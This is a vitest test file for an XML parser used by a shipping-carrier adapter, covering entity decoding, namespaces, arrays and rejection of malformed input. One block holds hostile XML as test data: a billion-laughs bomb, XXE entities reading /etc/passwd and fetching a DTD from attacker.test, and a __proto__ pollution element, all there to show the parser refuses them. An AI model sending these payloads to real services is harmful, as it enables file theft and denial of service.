import { describe, expect, it } from 'vitest';
import { decodeXmlText, parseXml } from '../../src/adapter-kit/parse-xml.js';
import { CarrierResponseError } from '../../src/errors/index.js';

const context = { carrierId: 'acme-xml', trackingNumbers: ['AC123'] };

function failure(body: unknown, options: Partial<Parameters<typeof parseXml>[1]> = {}): CarrierResponseError {
  try {
    parseXml(body, { ...context, ...options });
  } catch (error) {
    expect(CarrierResponseError.isInstance(error)).toBe(true);
    return error as CarrierResponseError;
  }
  throw new Error('parseXml accepted the body');
}

describe('parseXml: values and names', () => {
  it('finds elements by local name whatever the namespace and keeps every value a string as sent', () => {
    const document = parseXml(
      `<?xml version="1.0" encoding="UTF-8"?>
       <t:detail xmlns:t="http://example.test/track" xmlns="http://example.test/other">
         <t:code>0174</t:code><count>1e5</count><hex>0x1F</hex><flag>true</flag><empty/><blank></blank>
         <date> 2024-05-01 </date>
       </t:detail>`,
      context,
    );
    expect(document).toEqual({ detail: { code: '0174', count: '1e5', hex: '0x1F', flag: 'true', empty: '', blank: '', date: '2024-05-01' } });
  });

  it('makes repeating elements arrays by path, also when they occur once or not at all', () => {
    const paths = { arrayPaths: ['root.events.event', 'root.notes.note'] };
    expect(parseXml('<root><events><event><c>1</c></event></events><notes/></root>', { ...context, ...paths })).toEqual({
      root: { events: { event: [{ c: '1' }] }, notes: { note: [] } },
    });
    expect(parseXml('<root><events><event>a</event><event>b</event></events></root>', { ...context, ...paths })).toEqual({
      root: { events: { event: ['a', 'b'] } },
    });
    expect(parseXml('<root><events><other>x</other></events></root>', { ...context, ...paths })).toEqual({
      root: { events: { other: 'x', event: [] } },
    });
    // Elsewhere the same name is not forced into an array.
    expect(parseXml('<root><event>a</event></root>', { ...context, ...paths })).toEqual({ root: { event: 'a' } });
  });

  it('decodes the five XML entities and character references in one pass', () => {
    const document = parseXml('<a><b>Livr&#233; &#xE9; &lt;b&gt; &quot;x&quot; &apos;y&apos; &amp;lt; &amp;amp;</b></a>', context);
    expect(document).toEqual({ a: { b: 'Livré é <b> "x" \'y\' &lt; &amp;' } });
  });

  it('keeps CDATA as it is, entities and markup included', () => {
    expect(parseXml('<a><b><![CDATA[1 < 2 & &amp; <c/>]]></b></a>', context)).toEqual({ a: { b: '1 < 2 & &amp; <c/>' } });
  });

  it('drops attributes unless asked, then keeps them as @name strings', () => {
    const body = '<a id="007" xmlns:x="urn:x"><b x:lang="fr">texte &amp; plus</b></a>';
    expect(parseXml(body, context)).toEqual({ a: { b: 'texte & plus' } });
    expect(parseXml(body, { ...context, attributes: true })).toEqual({ a: { '@id': '007', b: { '@lang': 'fr', '#text': 'texte & plus' } } });
  });

  it('accepts bytes and a byte-order mark', () => {
    const bytes = new TextEncoder().encode('\uFEFF<a><b>é</b></a>');
    expect(parseXml(bytes, context)).toEqual({ a: { b: 'é' } });
  });
});

describe('parseXml: entity tricks and hostile bodies', () => {
  it('refuses a billion-laughs document before expanding anything', () => {
    const laughs = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      ' <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, index) => ` <!ENTITY lol${index + 1} "${`&lol${index === 0 ? '' : index};`.repeat(10)}">`),
      ']>',
      '<lolz>&lol9;</lolz>',
    ].join('\n');
    const started = performance.now();
    const error = failure(laughs);
    expect(performance.now() - started).toBeLessThan(100);
    expect(error.issues.join(' ')).toMatch(/DOCTYPE/);
    expect(error.carrierId).toBe('acme-xml');
    expect(error.trackingNumbers).toEqual(['AC123']);
  });

  it('refuses external entities, parameter entities and any document type', () => {
    expect(failure('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>').issues.join(' ')).toMatch(/DOCTYPE/);
    expect(failure('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.test/evil.dtd"> %p;]><a/>').issues.join(' ')).toMatch(/DOCTYPE/);
    expect(failure('<!DOCTYPE a SYSTEM "http://attacker.test/a.dtd"><a/>').issues.join(' ')).toMatch(/DOCTYPE/);
    expect(failure('<?xml version="1.0"?>\n<!doctype a><a/>').issues.join(' ')).toMatch(/DOCTYPE/);
  });

  it('refuses references to entities XML does not predefine, HTML entities included', () => {
    expect(failure('<a><b>&lol9;</b></a>').issues.join(' ')).toMatch(/a\.b: a reference other than/);
    expect(failure('<a><b>caf&eacute;</b></a>')).toBeInstanceOf(CarrierResponseError);
    expect(failure('<a><b>&#0;</b></a>')).toBeInstanceOf(CarrierResponseError);
    expect(failure('<a><b>&#xD800;</b></a>')).toBeInstanceOf(CarrierResponseError);
  });

  it('refuses an element named __proto__ and leaves Object.prototype alone', () => {
    failure('<a><__proto__><polluted>yes</polluted></__proto__></a>');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses nesting deeper than 100 elements', () => {
    const deep = `${'<a>'.repeat(150)}x${'</a>'.repeat(150)}`;
    expect(failure(deep)).toBeInstanceOf(CarrierResponseError);
  });
});

describe('parseXml: malformed bodies', () => {
  it.each([
    ['an unclosed element', '<a><b>1</b>'],
    ['mismatched tags', '<a><b></a></b>'],
    ['a bare ampersand', '<a>fish & chips</a>'],
    ['two root elements', '<a/><b/>'],
    ['text outside the root', 'hello'],
    ['JSON', '{"a":1}'],
    ['an empty body', '   '],
  ])('raises CarrierResponseError naming the carrier for %s', (_name, body) => {
    const error = failure(body);
    expect(error.code).toBe('CARRIER_RESPONSE_INVALID');
    expect(error.message).toContain('acme-xml');
    expect(error.issues.length).toBeGreaterThan(0);
  });

  it('refuses values that are not text', () => {
    expect(failure(null).issues).toEqual(['body: expected XML text, got null']);
    expect(failure({ a: 1 }).issues).toEqual(['body: expected XML text, got object']);
  });

  it('never puts the body itself in the error', () => {
    const error = failure('<a><secret>TEST-SECRET-VALUE-91c</secret><b></a>');
    expect(JSON.stringify(error)).not.toContain('TEST-SECRET-VALUE-91c');
    expect(error.message).not.toContain('TEST-SECRET-VALUE-91c');
  });
});

describe('decodeXmlText', () => {
  it('decodes the predefined entities and character references, and refuses anything else', () => {
    expect(decodeXmlText('plain')).toBe('plain');
    expect(decodeXmlText('a &amp; b &#65;&#x42;')).toBe('a & b AB');
    expect(decodeXmlText('&nbsp;')).toBeNull();
    expect(decodeXmlText('& loose')).toBeNull();
    expect(decodeXmlText('&#1114112;')).toBeNull();
  });
});
